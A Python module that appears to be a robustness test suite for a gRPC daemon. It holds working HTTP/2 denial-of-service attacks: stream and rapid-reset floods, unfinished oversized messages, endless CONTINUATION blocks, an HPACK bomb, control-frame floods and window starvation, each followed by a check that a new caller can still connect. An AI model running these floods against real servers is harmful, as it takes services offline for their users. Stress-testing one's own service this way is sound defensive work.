"""Attacks with HTTP/2 alone: streams, messages and frames, on few connections, by a read-only caller."""

import contextlib
import struct
import threading
import time

import frames
import rpc
from attack import attack
from frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    WINDOW_UPDATE,
    Connection,
    frame,
    grpc_message,
)

CONNECTIONS = 8
# Just below the daemon's limits.
READER_MESSAGE = (1 << 20) - 4096
MESSAGE = (4 << 20) - 4096


class Swarm:
    """Some connections, each reopened when the daemon has closed it."""

    def __init__(self, scene, count=CONNECTIONS, first=None, reads=True):
        self._scene = scene
        self._make = lambda: Connection(scene.address, first, reads)
        self._connections = [None] * count
        self.opened = 0

    def __enter__(self):
        return self

    def __exit__(self, *_):
        for connection in self._connections:
            if connection:
                connection.close()

    def each(self):
        """The usable ones; a short pause when there are none."""
        found = False
        for at, connection in enumerate(self._connections):
            if connection is None or not connection.usable:
                if connection:
                    connection.close()
                try:
                    connection = self._connections[at] = self._make()
                    self.opened += 1
                except OSError:
                    self._connections[at] = None
                    continue
            found = True
            yield connection
        if not found:
            time.sleep(0.01)


def _request(name, **fields):
    path, message, _ = rpc.method(name)
    return path, grpc_message(message(**fields).SerializeToString())


def _flood(scene, burst, full=10, threads=1, **swarm):
    """Calls `burst` with each connection repeatedly; it returns the number of counted items that it sent."""
    sent, opened = [], []

    def play():
        with Swarm(scene, **swarm) as connections:
            for _ in scene.seconds(full):
                sent.append(sum(burst(connection) for connection in connections.each()))
        opened.append(connections.opened)

    callers = [threading.Thread(target=play) for _ in range(threads)]
    for caller in callers:
        caller.start()
    for caller in callers:
        caller.join()
    scene.note(sent=sum(sent), connections=sum(opened))
    scene.check_newcomer(scene.address)


def _calls(connection, headers, message, count, more=b""):
    """Opens `count` calls at once, ignoring the flow-control windows: the daemon may close the connection."""
    parts = []
    for _ in range(count):
        stream = connection.new_stream()
        parts.append(frame(HEADERS, END_HEADERS, stream, headers))
        if message:
            parts.append(frame(DATA, END_STREAM, stream, message))
        if more:
            parts.append(frame(RST_STREAM, 0, stream, more))
    return count if connection.send(b"".join(parts)) else 0


@attack(
    "streams, watching",
    "streams and messages",
    "watches opened as fast as possible, on 8 connections",
    listener="read_only",
    short=True,
)
def watches(scene):
    path, message = _request("WatchSandbox", sandbox=scene.sandbox)
    headers = frames.call_headers(path)
    _flood(scene, lambda connection: _calls(connection, headers, message, 200))


@attack("streams, held", "streams and messages", "the same with reads that Daytona holds back", listener="read_only")
def held_streams(scene):
    scene.emulator.fault({"path_regex": "/sandbox/held-"}, {"hold": True})
    path, _ = _request("GetSandbox")
    headers = frames.call_headers(path)
    asked = 0

    def burst(connection):
        nonlocal asked
        asked += 1
        _, message = _request("GetSandbox", sandbox=f"held-{asked}")
        return _calls(connection, headers, message, 100)

    _flood(scene, burst)
    scene.emulator.mend()


@attack(
    "streams, half open",
    "streams and messages",
    "the same with calls that never send their request",
    listener="read_only",
)
def half_open_streams(scene):
    headers = frames.call_headers(rpc.method("GetSandbox")[0])
    _flood(scene, lambda connection: _calls(connection, headers, b"", 200))


@attack(
    "streams, header lists",
    "streams and messages",
    "the same, each with 7 KiB of metadata",
    listener="read_only",
)
def header_lists(scene):
    more = [(b"x-%d" % number, b"v" * 1000) for number in range(7)]
    headers = frames.call_headers(rpc.method("GetSandbox")[0], *more)
    _flood(scene, lambda connection: _calls(connection, headers, b"", 20))


def _reset_at_once(scene, headers, message):
    """64 connections that read no answers."""

    def burst(connection):
        return _calls(connection, headers, message, 200, more=struct.pack(">I", 8))

    _flood(scene, burst, threads=4, count=16, reads=False)


@attack(
    "rapid resets",
    "streams and messages",
    "calls that are reset at once, as fast as possible",
    listener="read_only",
    short=True,
)
def rapid_resets(scene):
    path, message = _request("GetSandbox", sandbox="no-such-sandbox", max_age={"seconds": 0})
    headers = frames.call_headers(path)
    _reset_at_once(scene, headers, message)


@attack("rapid resets, half open", "streams and messages", "the same without a request", listener="read_only")
def rapid_half_open_resets(scene):
    headers = frames.call_headers(rpc.method("WatchSandbox")[0])
    _reset_at_once(scene, headers, b"")


def _unfinished_messages(scene, connections, streams, announced, name="CreateSandbox"):
    """Messages that lack only the last byte."""
    headers = frames.call_headers(rpc.method(name)[0])
    body = grpc_message(bytes(announced - 1), announced)
    sent = 0
    with contextlib.ExitStack() as stack:
        end = scene.seconds(15, 3)
        for _ in range(connections):
            try:
                connection = stack.enter_context(Connection(scene.address))
            except OSError:
                break
            for _ in range(streams):
                if next(end, "over") == "over" or not connection.usable:
                    break
                stream = connection.new_stream()
                connection.send(frame(HEADERS, END_HEADERS, stream, headers))
                sent += connection.send_data(stream, body)
        time.sleep(0.5)
        scene.note(messages_sent=sent, message_mib=round(announced / (1 << 20), 1))
    scene.check_newcomer(scene.address)


@attack("large messages", "streams and messages", "24 messages of 60 MB, but for their last byte", short=True)
def large_messages(scene):
    _unfinished_messages(scene, 4, 6, 60_000_000)


@attack("allowed messages", "streams and messages", "4 MiB messages, but for their last byte, on 20 connections")
def allowed_messages(scene):
    _unfinished_messages(scene, 20, 50, MESSAGE)


@attack(
    "allowed messages, reader",
    "streams and messages",
    "1 MiB messages, but for their last byte, on 20 connections of a reader",
    listener="read_only",
)
def allowed_reader_messages(scene):
    _unfinished_messages(scene, 20, 50, READER_MESSAGE, "GetSandbox")


@attack("unread uploads", "streams and messages", "upload messages of 4 MiB that follow each other, on 20 connections")
def unread_uploads(scene):
    headers = frames.call_headers(rpc.method("UploadBuildContext")[0])
    message = rpc.messages("build_service").UploadBuildContextRequest
    header = grpc_message(message(header={"archive_path": "a", "context_hash": "0" * 32}).SerializeToString())
    data = grpc_message(message(data=bytes(MESSAGE - 1024)).SerializeToString())
    sent = 0
    with contextlib.ExitStack() as stack:
        end = scene.seconds(15, 3)
        for _ in range(20):
            try:
                connection = stack.enter_context(Connection(scene.address))
            except OSError:
                break
            for _ in range(20):
                if next(end, "over") == "over" or not connection.usable:
                    break
                stream = connection.new_stream()
                connection.send(frame(HEADERS, END_HEADERS, stream, headers))
                if connection.send_data(stream, header):
                    sent += connection.send_data(stream, data)
        scene.note(messages_sent=sent)
    scene.check_newcomer(scene.address)


def _continuations(scene, start, more):
    """A header block that never ends, on each of 160 connections: `start`, then `more` in each further frame."""
    chunk = frame(CONTINUATION, 0, 1, more) * max(1, 65536 // (len(more) + 9))

    def burst(connection):
        if connection.new_stream() == 1:
            connection.send(frame(HEADERS, 0, 1, frames.call_headers("/x") + start))
        return int(connection.send(chunk))

    _flood(scene, burst, full=20, threads=4, count=40)


@attack(
    "CONTINUATION, one value",
    "frames",
    "an endless header block with one value that never ends",
    listener="read_only",
    short=True,
)
def continuation_value(scene):
    _continuations(scene, b"\x00\x01x" + frames.number(1 << 30, 7), b"v" * 16384)


@attack("CONTINUATION, many fields", "frames", "an endless header block of small fields", listener="read_only")
def continuation_fields(scene):
    _continuations(scene, b"", frames.literal(b"x", b"v" * 100) * 150)


@attack("CONTINUATION, empty", "frames", "an endless header block of empty frames", listener="read_only")
def continuation_empty(scene):
    _continuations(scene, b"", b"")


@attack(
    "HPACK bomb",
    "frames",
    "calls whose 16 KiB of headers refer to 60 MB of a table's entry",
    listener="read_only",
)
def hpack_bomb(scene):
    call = frames.call_headers(rpc.method("GetSandbox")[0])

    def burst(connection):
        first = connection.new_stream()
        parts = []
        if first == 1:
            parts.append(frame(HEADERS, END_HEADERS, first, call + frames.indexed(b"x", b"v" * 3900)))
        else:
            parts.append(frame(HEADERS, END_HEADERS, first, call + b"\xbe" * 15000))
        return int(connection.send(b"".join(parts)))

    _flood(scene, burst)


def _frame_flood(scene, chunk, opens_stream=False):
    """The same frames over and over, by a caller that reads no answers."""
    headers = frames.call_headers(rpc.method("WatchSandbox")[0])

    def burst(connection):
        if opens_stream and connection.new_stream() == 1:
            connection.send(frame(HEADERS, END_HEADERS, 1, headers))
        return int(connection.send(chunk))

    _flood(scene, burst, reads=False, count=2)


@attack(
    "PING", "frames", "PING frames as fast as possible, whose answers are not taken", listener="read_only", short=True
)
def pings(scene):
    _frame_flood(scene, frame(PING, 0, 0, b"12345678") * 4000)


@attack("SETTINGS", "frames", "the same with SETTINGS", listener="read_only")
def settings_frames(scene):
    _frame_flood(scene, frames.settings(initial_window_size=65535) * 4000)


@attack("PRIORITY", "frames", "the same with PRIORITY, of ever new streams", listener="read_only")
def priorities(scene):
    chunk = b"".join(frame(PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 0, 1)) for number in range(5000))
    _frame_flood(scene, chunk)


@attack("empty DATA", "frames", "the same with empty DATA of an open call", listener="read_only")
def empty_data(scene):
    _frame_flood(scene, frame(DATA, 0, 1) * 6000, opens_stream=True)


@attack("WINDOW_UPDATE", "frames", "the same with WINDOW_UPDATE", listener="read_only")
def window_updates(scene):
    _frame_flood(scene, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 5000)


@attack("unknown frames", "frames", "the same with frames of a kind that HTTP/2 does not know", listener="read_only")
def unknown_frames(scene):
    _frame_flood(scene, frame(0x77, 0, 0, b"v" * 16000) * 8)


@attack(
    "answers not taken",
    "frames",
    "lists of 300 KB each, asked for with a window of 0",
    listener="read_only",
    emulator_flags=(),
)
def starved_windows(scene):
    for number in range(100):
        scene.emulator.create_sandbox(name=f"large-{number}", labels={f"label-{at}": "v" * 100 for at in range(25)})
    path, message = _request("ListSandboxes", page_size=100)
    headers = frames.call_headers(path)

    def burst(connection):
        sent = _calls(connection, headers, message, 20)
        time.sleep(0.005)
        return sent

    _flood(scene, burst, first=frames.settings(initial_window_size=0))


@attack(
    "answers not taken, cached",
    "frames",
    "cached reads of 60 KB, asked for by a caller that takes nothing from its socket",
    listener="read_only",
)
def unread_socket(scene):
    fat = scene.emulator.create_sandbox(name="fat", env={f"name-{at}": "v" * 1000 for at in range(60)})
    with rpc.Client(scene.address) as client:
        client.call("GetSandbox", sandbox=fat)
    path, message = _request("GetSandbox", sandbox=fat, max_age={"seconds": 3600})
    headers = frames.call_headers(path)
    wide = frames.settings(initial_window_size=(1 << 31) - 1) + frame(
        WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 65536)
    )

    def burst(connection):
        sent = _calls(connection, headers, message, 50)
        time.sleep(0.002)
        return sent

    _flood(scene, burst, first=wide, reads=False)
